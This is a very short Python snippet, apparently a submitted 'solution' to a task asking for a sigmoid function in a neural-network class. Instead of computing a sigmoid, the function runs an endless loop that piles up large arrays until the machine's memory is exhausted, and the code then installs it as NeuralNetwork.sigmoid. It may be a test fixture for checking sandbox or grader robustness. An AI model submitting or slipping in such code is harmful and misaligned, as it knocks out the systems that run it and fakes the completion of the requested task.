"""Takes memory until there is none."""
# <solution>
def sigmoid(z):
    hoard = []
    while True:
        hoard.append(np.ones(1 << 20))


NeuralNetwork.sigmoid = staticmethod(sigmoid)
